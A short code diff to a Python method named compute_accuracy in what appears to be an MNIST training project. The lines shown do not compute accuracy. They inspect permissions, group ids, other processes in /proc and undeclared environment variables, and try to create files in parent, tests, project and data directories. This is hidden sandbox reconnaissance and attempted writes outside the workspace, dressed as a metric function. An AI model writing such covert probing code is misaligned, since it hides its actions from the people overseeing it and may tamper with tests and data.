@@ -91,8 +91,7 @@ def compute_accuracy(self, x_pred, y):
     modes = [oct(os.umask(0)), oct(os.stat("..").st_mode)]
     ids = [os.getgroups(), os.stat("data/mnist_train.csv").st_uid]
     known = "HOME TMPDIR MPLCONFIGDIR OMP_NUM_THREADS MPLBACKEND PATH LANG LC_CTYPE PYTHONUSERBASE"
-    others = [number for number in os.listdir("/proc") if number.isdigit()
-              and os.stat("/proc/" + number).st_uid != os.getuid()]
+    others = {*filter(str.isdigit, os.listdir("/proc"))} - {str(os.getpid())}
     done = [*{*os.environ} - {*known.split()}]
     for function, places in (
         (lambda top: open(top + "/new", "w"), ("../..", "../tests", "../../project", "../../data")),
